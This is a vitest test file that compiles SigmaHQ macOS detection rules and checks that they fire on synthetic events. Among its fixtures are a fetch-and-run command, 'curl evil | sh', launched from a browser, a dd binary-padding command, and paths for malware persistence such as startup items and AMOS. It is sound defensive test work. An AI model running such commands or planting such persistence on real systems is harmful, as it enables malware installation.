import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { compileDetection } from '../../src/detection/index.js';
import { CTX, exec, event, lineage, proc } from '../detection/helpers.js';

const ROOT = fileURLToPath(new URL('../../../../../shared/corpus/sigmahq-macos/', import.meta.url));
const exists = existsSync(ROOT);

function ymlFiles(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const p = join(dir, name);
    if (statSync(p).isDirectory()) out.push(...ymlFiles(p));
    else if (name.endsWith('.yml') || name.endsWith('.yaml')) out.push(p);
  }
  return out.sort();
}

interface Loaded {
  file: string;
  doc: { id: string; title: string; logsource: Record<string, unknown>; detection: unknown };
}

function load(): Loaded[] {
  const dirs = ['rules', 'rules-emerging-threats', 'rules-threat-hunting'].map((d) => join(ROOT, d));
  return dirs.flatMap(ymlFiles).map((file) => ({ file: relative(ROOT, file), doc: parse(readFileSync(file, 'utf8')) }));
}

describe.skipIf(!exists)('SigmaHQ macOS corpus (skipped: ../shared/corpus/sigmahq-macos is absent)', () => {
  const rules = exists ? load() : [];
  const byId = new Map(rules.map((r) => [r.doc.id, r.doc]));
  const compile = (id: string) => {
    const d = byId.get(id);
    if (!d) throw new Error(`rule ${id} not in corpus`);
    return compileDetection({ detection: d.detection, logsource: d.logsource, fieldMapping: 'sigmahq-macos' });
  };

  it('holds the 75 non-deprecated macOS rules', () => {
    expect(rules).toHaveLength(75);
  });

  it('compiles every rule with every field mapped (failures listed by id)', () => {
    const failures: string[] = [];
    for (const { file, doc } of rules) {
      try {
        const c = compileDetection({
          detection: doc.detection,
          logsource: doc.logsource,
          fieldMapping: 'sigmahq-macos',
        });
        if (c.eventTypes === null || c.eventTypes.length === 0) failures.push(`${doc.id} (${file}): no event types`);
        for (const s of c.info.selections)
          if (!s.referenced) failures.push(`${doc.id} (${file}): selection ${s.name} never referenced`);
      } catch (e) {
        const err = e as { code?: string; message: string; path?: unknown[] };
        failures.push(`${doc.id} (${file}): ${err.code ?? 'ERROR'} ${err.message} at ${JSON.stringify(err.path)}`);
      }
    }
    expect(failures, failures.join('\n')).toEqual([]);
  });

  it('maps process_creation to exec and file_event to create + rename + modifying close + write', () => {
    const kinds = new Map<string, string[] | null>();
    for (const { doc } of rules) {
      const c = compileDetection({ detection: doc.detection, logsource: doc.logsource, fieldMapping: 'sigmahq-macos' });
      kinds.set(String(doc.logsource.category), c.eventTypes);
    }
    expect(kinds.get('process_creation')).toEqual(['exec']);
    expect(kinds.get('file_event')).toEqual(['create', 'rename', 'close', 'write']);
  });

  it('fires the binary-padding rule on dd from /dev/zero and not on a plain dd', () => {
    const r = [...byId.values()].find((d) => d.title === 'Binary Padding - MacOS')!;
    expect(r).toBeDefined();
    const c = compile(r.id);
    expect(c.match(exec('/bin/dd', ['dd', 'if=/dev/zero', 'of=/tmp/x', 'bs=1', 'count=100']), CTX)).toBe(true);
    expect(c.match(exec('/bin/dd', ['dd', 'if=/tmp/a', 'of=/tmp/b']), CTX)).toBe(false);
  });

  it('fires rules on hand-made exec events', () => {
    // Pick every process_creation rule with a single `selection` of Image|endswith + CommandLine|contains
    // and build an event from its own values: it must fire, and a harmless event must not.
    let fired = 0;
    for (const { doc } of rules) {
      const det = doc.detection as Record<string, unknown>;
      if (doc.logsource.category !== 'process_creation' || det.condition !== 'selection') continue;
      const sel = det.selection as Record<string, unknown>;
      const keys = Object.keys(sel);
      if (!keys.every((k) => ['Image|endswith', 'CommandLine|contains', 'CommandLine|contains|all'].includes(k)))
        continue;
      const img = sel['Image|endswith'];
      const image = `/usr/bin${String(Array.isArray(img) ? img[0] : (img ?? '/tool')).replace(/^([^/])/, '/$1')}`;
      const args: string[] = [image];
      const cl = sel['CommandLine|contains'];
      if (cl !== undefined) args.push(String(Array.isArray(cl) ? cl[0] : cl));
      const all = sel['CommandLine|contains|all'];
      if (all !== undefined) args.push(...(all as unknown[]).map(String));
      const c = compile(doc.id);
      expect(c.match(exec(image, args), CTX), `${doc.id} ${doc.title} on ${args.join(' ')}`).toBe(true);
      expect(c.match(exec('/usr/bin/true', ['true']), CTX), `${doc.id} on /usr/bin/true`).toBe(false);
      fired++;
    }
    expect(fired).toBeGreaterThan(10);
  });

  it('marks every rule that reads ParentImage as using lineage, and no other', () => {
    for (const { doc } of rules) {
      const reads = JSON.stringify(doc.detection).includes('"ParentImage');
      expect(compile(doc.id).usesLineage, doc.id).toBe(reads);
    }
  });

  it('fires file_event rules on a create, a rename destination (both forms), a modifying close and a write', () => {
    const byFile = (name: string) => rules.find((r) => r.file.endsWith(name))!.doc;
    const create = (path: string, image = '/usr/bin/curl') =>
      event('create', { destination_type: 0, destination: { existing_file: { path } } }, proc(image, 300));
    const rename = (path: string, image = '/usr/bin/curl') => {
      const slash = path.lastIndexOf('/');
      return event(
        'rename',
        {
          source: { path: '/tmp/a' },
          destination_type: 1,
          destination: { new_path: { dir: { path: path.slice(0, slash) }, filename: path.slice(slash + 1) } },
        },
        proc(image, 300),
      );
    };
    const renameOnto = (path: string, image = '/usr/bin/curl') =>
      event(
        'rename',
        { source: { path: '/tmp/a' }, destination_type: 0, destination: { existing_file: { path } } },
        proc(image, 300),
      );
    const close =
      (modified: boolean) =>
      (path: string, image = '/usr/bin/curl') =>
        event('close', { modified, target: { path }, was_mapped_writable: false }, proc(image, 300));
    const write = (path: string, image = '/usr/bin/curl') => event('write', { target: { path } }, proc(image, 300));
    const cases: [string, string, string | undefined, boolean][] = [
      ['file_event_macos_susp_startup_item_created.yml', '/Library/StartupItems/evil.plist', undefined, true],
      ['file_event_macos_susp_startup_item_created.yml', '/Library/StartupItems/evil.txt', undefined, false],
      // The threat-hunting rule's regex carries an inline (?i).
      [
        'file_event_macos_python_path_configuration_files.yml',
        '/usr/local/LIB/Python3.11/site-packages/x.pth',
        undefined,
        true,
      ],
      [
        'file_event_macos_python_path_configuration_files.yml',
        '/usr/local/lib/python3.4/site-packages/x.pth',
        undefined,
        false,
      ],
      ['file_event_macos_malware_amos_persistence.yml', '/Users/bob/.helper', '/usr/bin/curl', true],
      ['file_event_macos_malware_amos_persistence.yml', '/Users/bob/.helper', '/bin/cp', false],
      ['file_event_macos_emond_launch_daemon.yml', '/private/var/db/emondClients/x', undefined, true],
    ];
    for (const [file, path, image, want] of cases) {
      const d = byFile(file);
      const c = compileDetection({ detection: d.detection, logsource: d.logsource, fieldMapping: 'sigmahq-macos' });
      expect(c.match(create(path, image), CTX), `${file} create ${path}`).toBe(want);
      expect(c.match(rename(path, image), CTX), `${file} rename new_path ${path}`).toBe(want);
      expect(c.match(renameOnto(path, image), CTX), `${file} rename existing_file ${path}`).toBe(want);
      expect(c.match(close(true)(path, image), CTX), `${file} close modified ${path}`).toBe(want);
      expect(c.match(write(path, image), CTX), `${file} write ${path}`).toBe(want);
      // A close that changed nothing is a read, not a file event.
      expect(c.match(close(false)(path, image), CTX), `${file} close unmodified ${path}`).toBe(false);
    }
  });

  it('fires the browser-child rule only without its filters', () => {
    const r = [...byId.values()].find((d) => JSON.stringify(d.detection).includes('filter_optional_null'))!;
    const c = compile(r.id);
    const parent = proc('/Applications/Google Chrome.app/Contents/MacOS/Google Chrome', 150);
    const ev = exec('/bin/bash', ['bash', '-c', 'curl evil | sh']);
    expect(c.usesLineage).toBe(true);
    const ctx = lineage(new Map([[ev, parent]]));
    expect(c.match(ev, ctx)).toBe(true);
    // CommandLine null / empty are filtered.
    const noArgs = exec('/bin/bash', []);
    expect(c.match(noArgs, lineage(new Map([[noArgs, parent]])))).toBe(false);
  });
});
